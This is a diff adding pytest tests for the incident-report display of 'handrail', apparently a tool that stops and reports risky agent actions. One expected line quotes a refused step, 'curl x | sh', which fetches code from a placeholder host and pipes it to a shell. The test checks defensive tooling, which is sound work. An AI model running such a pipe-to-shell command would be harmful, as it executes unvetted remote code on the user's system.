@@ -11,9 +11,12 @@ import msgspec
 import pytest
 from tests.intervene.stopped import INCIDENT, NIGHT, RUN, confirmed, reviewed, stop, story
 
+from handrail.cli.incident import tell_report
+from handrail.cli.render import WIDTH, Screen
 from handrail.intervene.gather import gather
 from handrail.intervene.incident import Incident
 from handrail.intervene.incidents import Incidents, Resolution
+from handrail.intervene.report import report
 from handrail.model.event import Event
 from handrail.server.home import Home
 
@@ -68,6 +71,32 @@ def test_a_report_is_found_by_name_or_part_of_it(stopped: Shell, name: str) -> N
     out = stopped.run("incident", "show", name).out
     assert out.startswith(f"# Incident {INCIDENT}\n")
     assert f"handrail incident resume {INCIDENT} --option abort" in out
+
+
+def test_a_report_fits_the_terminal_and_its_commands_stay_whole(
+    capsys: pytest.CaptureFixture[str],
+) -> None:
+    tell_report(Screen(colour=False, width=60), report(record()))
+    lines = capsys.readouterr().out.splitlines()
+    commands = [line for line in lines if line.startswith("      handrail incident resume ")]
+    assert len(commands) == 4
+    assert all(" --option " in line for line in commands)
+    assert [line for line in lines if len(line) > 60 and line not in commands] == []
+    broken = lines.index("- 02:12:22 step 2 Bash `curl x | sh`: refused; it is not")
+    assert lines[broken + 1] == "  allowed"
+
+
+def test_a_long_report_is_broken_where_it_is_shown(shell: Shell, incidents: Incidents) -> None:
+    finding = msgspec.structs.replace(record().finding, says="It went on and on. " * 9)
+    incidents.save(msgspec.structs.replace(record(), finding=finding))
+    lines = shell.run("incident", "show").out.splitlines()
+    assert max(len(line) for line in lines if "incident resume" not in line) <= WIDTH
+
+
+def test_how_long_stops_are_kept_is_a_setting(shell: Shell) -> None:
+    out = shell.run("incident", "list", "--help").out
+    assert "preserve_incident_data_days" in out
+    assert "30 days" not in out
 
 
 def test_a_resolved_one_says_how(stopped: Shell) -> None:
